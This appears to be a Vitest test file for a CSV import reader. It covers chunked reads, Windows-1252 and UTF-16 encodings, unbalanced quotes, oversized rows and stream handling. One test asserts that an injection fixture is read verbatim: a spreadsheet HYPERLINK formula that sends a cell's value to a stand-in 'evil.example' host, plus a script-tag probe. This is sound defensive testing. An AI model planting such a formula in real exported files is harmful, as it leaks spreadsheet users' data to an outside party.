import { describe, expect, it } from "vitest";
import { Readable } from "node:stream";
import { readRows, type RowRead } from "../../../core/imports/read-rows.ts";
import { sniffCsv } from "../../../core/imports/sniff.ts";
import { chunked, csv, fixture, readAll } from "./helpers.ts";

const FIXTURES = [
  "hubspot-contacts.csv",
  "salesforce-leads.csv",
  "zoho-leads.csv",
  "indiamart-leads.csv",
  "excel-european-1252.csv",
  "excel-unicode-text.txt",
  "utf8-bom.csv",
  "unbalanced-quote.csv",
  "ragged.csv",
  "wide-row.csv",
  "nul-bytes.csv",
  "injection.csv",
];

describe("reading rows", () => {
  it.each(FIXTURES)("when %s arrives in chunks of 1, 3 or 5 bytes, then the rows are those read from one chunk", async (name) => {
    const data = fixture(name);
    const whole = await readAll(data);
    expect(whole.length).toBeGreaterThan(0);
    for (const size of [1, 3, 5]) expect(await readAll(data, {}, size)).toEqual(whole);
  });

  it("when a HubSpot export is read, then each row has the header's width and a street address keeps its line break", async () => {
    const rows = await readAll(fixture("hubspot-contacts.csv"));
    expect(rows.map((r) => [r.row, r.line])).toEqual([
      [1, 2],
      [2, 4],
      [3, 5],
    ]);
    expect(rows.every((r) => r.cells.length === 20 && !r.error)).toBe(true);
    expect(rows[0].cells[12]).toBe("Unit 4, Peninsula Park\nLower Parel");
    expect(rows[1].cells[2]).toBe("O'Neil");
  });

  it("when a Windows-1252 file is read, then accented letters and £ come out as text", async () => {
    const rows = await readAll(fixture("excel-european-1252.csv"));
    expect(rows.map((r) => r.cells[0])).toEqual(["Peña", "Lefèvre", "Smith"]);
    expect(rows[1].cells[8]).toBe("Devis envoyé; relancer");
    expect(rows[2].cells[7]).toBe("£1.500");
  });

  it("when a UTF-16LE file arrives one byte at a time, then characters split across chunks are whole", async () => {
    const rows = await readAll(fixture("excel-unicode-text.txt"), {}, 1);
    expect(rows[0].cells).toEqual(["अमित शर्मा", "9876543210", "amit@example.in", "जयपुर", "इच्छुक है"]);
    expect(rows[2].cells[0]).toBe("李雷");
  });

  it("when a formula or markup is in a cell, then it is read verbatim", async () => {
    const rows = await readAll(fixture("injection.csv"));
    expect(rows[0].cells[0]).toBe('=HYPERLINK("http://evil.example/?leak="&A2,"Click me")');
    expect(rows[1].cells[0]).toBe("<script>alert('x')</script>");
    expect(rows[2].cells[3]).toBe("Acme, Inc.");
  });
});

describe("reading broken rows", () => {
  it("when row 3 of 6 opens a quote it never closes, then row 3 is an error and rows 4 to 6 are read", async () => {
    const rows = await readAll(fixture("unbalanced-quote.csv"));
    expect(rows.map((r) => [r.row, r.line, r.error ?? null])).toEqual([
      [1, 2, null],
      [2, 3, null],
      [3, 4, "unbalanced quote"],
      [4, 5, null],
      [5, 6, null],
      [6, 7, null],
    ]);
    expect(rows[2].cells).toEqual(['"Chitra Iyer', "chitra@example.in", "9876500003"]);
    expect(rows[4].cells[0]).toBe("Ezhil, Arasan");
  });

  it("when the last row's quote is never closed, then it is one error row and the rows before it are intact", async () => {
    const rows = await readAll(csv(["Name,Email", "Asha,asha@example.in", 'Bala,"bala@example.in']));
    expect(rows.map((r) => [r.row, r.error ?? null])).toEqual([
      [1, null],
      [2, "unbalanced quote"],
    ]);
  });

  it("when an unclosed quote runs past the longest row held, then the row is cut back and reading goes on", async () => {
    const lines = ["Name,Notes", '"Asha,open quote'];
    for (let i = 0; i < 200; i++) lines.push(`Row ${i},some notes for row ${i}`);
    const rows = await readAll(csv(lines), { maxRowChars: 500, maxCellBytes: 100 });
    expect(rows[0]).toMatchObject({ row: 1, error: "unbalanced quote" });
    expect(rows.slice(1).every((r) => !r.error)).toBe(true);
    expect(rows.at(-1)?.cells).toEqual(["Row 199", "some notes for row 199"]);
  });

  it("when a quoted field spans lines but the row comes out with the wrong width, then its first line is an error", async () => {
    // Row 1's quote closes on row 3's quote: one record of 3 fields where 2 are expected.
    const rows = await readAll(csv(["Name,City", '"Asha,Pune', "Bala,Delhi", '"Chitra K",Goa', "Dev,Agra"]));
    expect(rows.map((r) => [r.row, r.error ?? null, r.cells[0]])).toEqual([
      [1, "unbalanced quote", '"Asha'],
      [2, null, "Bala"],
      [3, null, "Chitra K"],
      [4, null, "Dev"],
    ]);
  });

  it("when rows are short or long, then they are padded or cut, and cut values are noted", async () => {
    const rows = await readAll(fixture("ragged.csv"));
    expect(rows.map((r) => [r.row, r.line])).toEqual([
      [1, 2],
      [2, 3],
      [3, 5],
      [4, 7],
    ]);
    expect(rows[0].cells).toEqual(["1", "Gita Pillai", "9876511111", "", ""]);
    expect(rows[1]).toMatchObject({
      cells: ["2", "Hari Das", "9876522222", "hari@example.in", "call back"],
      note: "2 cells past the last column dropped",
    });
    expect(rows[2].note).toBeUndefined();
    expect(rows.every((r) => !r.error)).toBe(true);
  });

  it("when a row has 301 columns, then it is an error row and its neighbours are read", async () => {
    const rows = await readAll(fixture("wide-row.csv"));
    expect(rows.map((r) => r.error ?? null)).toEqual([null, "301 columns (at most 300)", null]);
    expect(rows[1].cells).toHaveLength(5);
    expect((await readAll(fixture("wide-row.csv"), { maxColumns: 400 }))[1].error).toBeUndefined();
  });

  it("when a cell holds 120 KB, then the row is an error naming the size and column, and the next row is read", async () => {
    const big = "x".repeat(120_000);
    const rows = await readAll(csv(["Name,Notes", `Asha,"${big}"`, "Bala,short"]));
    expect(rows[0].error).toBe('cell of 120 KB (at most 100 KB) in "Notes"');
    expect(Buffer.byteLength(rows[0].cells[1])).toBeLessThanOrEqual(100_000);
    expect(rows[1]).toEqual({ row: 2, line: 3, cells: ["Bala", "short"] });
  });

  it("when a row is longer than the longest row held, then it is an error row, not held, and reading goes on", async () => {
    const rows = await readAll(csv(["Name,Notes", `Asha,${"y".repeat(5_000)}`, "Bala,short"]), { maxRowChars: 1_000, maxCellBytes: 100 });
    expect(rows[0]).toMatchObject({ row: 1, line: 2, error: "row of 6 KB (at most 1 KB)", cells: ["", ""] });
    expect(rows[1].cells).toEqual(["Bala", "short"]);
  });

  it("when NUL bytes are in cells and on a line of their own, then they are stripped and that line is no row", async () => {
    const rows = await readAll(fixture("nul-bytes.csv"));
    expect(rows.map((r) => [r.row, r.line, r.cells])).toEqual([
      [1, 2, ["Nisha Patel", "nisha@example.in", "98765 88888"]],
      [2, 4, ["Om Prakash", "om@example.in", "9876599999"]],
    ]);
  });

  it("when Excel wrote a sep= line, then neither it nor the header is a row", async () => {
    const rows = await readAll(csv(["sep=;", "Name;Email", "Asha;asha@example.in"], "\r\n"));
    expect(rows).toEqual([{ row: 1, line: 3, cells: ["Asha", "asha@example.in"] }]);
  });

  it("when the file has no header, then the first line is row 1", async () => {
    const rows = await readAll(csv(["Asha,asha@example.in,9876500001", "Bala,bala@example.in,9876500002"]));
    expect(rows.map((r) => [r.row, r.cells[0]])).toEqual([
      [1, "Asha"],
      [2, "Bala"],
    ]);
  });
});

describe("resuming and streaming", () => {
  it("when skipRows is 3, then reading starts at row 4 with the same numbers", async () => {
    const data = fixture("unbalanced-quote.csv");
    const rows = await readAll(data, { skipRows: 3 });
    expect(rows.map((r) => [r.row, r.cells[0]])).toEqual([
      [4, "Deepak Jain"],
      [5, "Ezhil, Arasan"],
      [6, "Farah Khan"],
    ]);
  });

  it("when the reader stops early, then the input stream is destroyed", async () => {
    const data = fixture("hubspot-contacts.csv");
    const input = chunked(data, 16);
    for await (const row of readRows(input, { sniffed: sniffCsv(data) })) {
      expect(row.row).toBe(1);
      break;
    }
    await expect.poll(() => input.destroyed).toBe(true);
  });

  it("when a large file is read slowly, then the file is read only a little ahead of the rows taken", async () => {
    const header = "Name,Email,Phone,City\n";
    let produced = 0;
    const source = Readable.from(
      (function* () {
        yield Buffer.from(header);
        for (let chunk = 0; chunk < 2_000; chunk++) {
          let text = "";
          for (let i = 0; i < 100; i++)
            text += `Person ${produced + i},p${produced + i}@example.in,98765${String(produced + i).padStart(5, "0")},Pune\n`;
          produced += 100;
          yield Buffer.from(text);
        }
      })(),
      { objectMode: false },
    );
    const sniffed = sniffCsv(Buffer.from(header + "Asha,asha@example.in,9876500001,Pune\n"));
    let taken = 0;
    for await (const row of readRows(source, { sniffed })) {
      taken++;
      if (taken === 5_000) {
        expect(row.cells[0]).toBe("Person 4999");
        break;
      }
    }
    // 200 000 rows in the file; only stream buffers' worth beyond the 5 000 taken were read.
    expect(produced - taken).toBeLessThan(10_000);
  });

  it("when the input stream fails, then reading throws its error", async () => {
    const failing = new Readable({
      read() {
        this.push(Buffer.from("Name,Email\nAsha,asha@example.in\n"));
        this.destroy(new Error("disk gone"));
      },
    });
    const rows: RowRead[] = [];
    const read = async () => {
      for await (const row of readRows(failing, { sniffed: sniffCsv(Buffer.from("Name,Email\n")) })) rows.push(row);
    };
    await expect(read()).rejects.toThrow("disk gone");
  });
});
